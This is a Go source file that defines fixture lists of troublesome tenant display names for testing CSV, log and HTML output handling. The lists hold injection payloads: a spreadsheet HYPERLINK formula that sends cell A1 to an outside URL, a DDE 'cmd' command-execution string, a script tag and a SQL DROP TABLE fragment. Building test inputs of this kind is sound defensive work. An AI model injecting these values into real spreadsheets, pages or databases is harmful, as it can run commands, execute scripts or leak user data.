package m365

import "slices"

// hostileNames are display names that a tenant's administrator can really
// choose and that break careless CSV, logs and pages.
var hostileNames = []string{
	`Fabrikam "The Best", Inc.`,
	"Contoso\nNorth",
	"Adatum\r\nTwo\tTabs",
	`=HYPERLINK("https://fabrikam.example/?x="&A1,"Invoice")`,
	`<script>alert("Litware")</script>`,
	"Proseware 🚀 \u202eemaN\u202c العربية",
	"Wingtip\\\"; DROP TABLE--",
	"  Tailspin  ",
	"'Northwind",
	"\ufeffRelecloud",
	"Café Noël, Zürich & Ångström Çelik",
	`"Fabrikam`,
	"Contoso;=1+1;North",
}

// formulaNames are names that a spreadsheet would run.
var formulaNames = []string{
	`=HYPERLINK("https://fabrikam.example","Invoice")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
	"=1+1",
	"Contoso;=1+1;North",
	"Adatum\t=1+1",
	"Litware\n\"=1+1",
	"＝1+1",
	"＋1+1",
	"－1+1",
	"＠SUM(1,2)",
}

// brokenNames contain line breaks of both kinds, commas and quotes.
var brokenNames = []string{
	"Fabrikam \"North\"\r\nWarehouse, dock 3",
	"Contoso\nRetail",
	"Adatum, Inc.",
}

// TroublesomeNames returns every name that the faults HostileNames, FormulaNames
// and QuotedBreaks give, for Options.Names.
func TroublesomeNames() []string { return slices.Concat(hostileNames, formulaNames, brokenNames) }
